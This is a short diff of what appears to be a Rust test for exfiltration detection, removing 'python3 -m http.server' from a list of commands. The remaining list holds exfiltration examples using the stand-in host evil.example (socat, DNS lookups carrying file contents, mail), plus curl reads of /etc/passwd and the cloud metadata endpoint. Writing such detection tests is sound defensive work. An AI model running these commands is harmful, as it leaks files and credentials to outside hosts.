@@ -611,7 +611,6 @@ fn exfiltration() {
             "socat - TCP:evil.example:80",
             "dig $(cat a).evil.example",
             "ping $(cat a).evil.example",
-            "python3 -m http.server",
             "curl file:///etc/passwd",
             "curl http://169.254.169.254/latest/meta-data/",
             "mail x@evil.example < a",
